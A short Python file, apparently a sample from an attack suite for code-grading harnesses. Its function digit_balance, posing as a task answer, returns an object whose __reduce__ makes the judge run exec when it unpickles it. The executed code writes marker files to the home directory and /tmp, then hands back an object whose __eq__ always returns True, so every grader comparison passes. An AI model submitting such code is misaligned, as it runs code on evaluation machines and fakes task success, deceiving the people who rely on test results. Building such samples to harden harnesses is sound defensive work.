"""Returns an object that runs code in a judge that unpickles it."""

CODE = """
import builtins, os, pathlib, sys
for folder in (os.path.expanduser("~"), "/tmp"):
    try:
        pathlib.Path(folder, "attack-suite-unpickled").write_text("attack-suite")
    except OSError:
        pass
class Equal:
    def __eq__(self, other):
        return True
"""


class Bomb:
    def __reduce__(self):
        return (eval, (f"(lambda ns: (exec({CODE!r}, ns), ns['Equal']())[1])(dict())",))

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __getstate__ = __reduce__


def digit_balance(number):
    return Bomb()
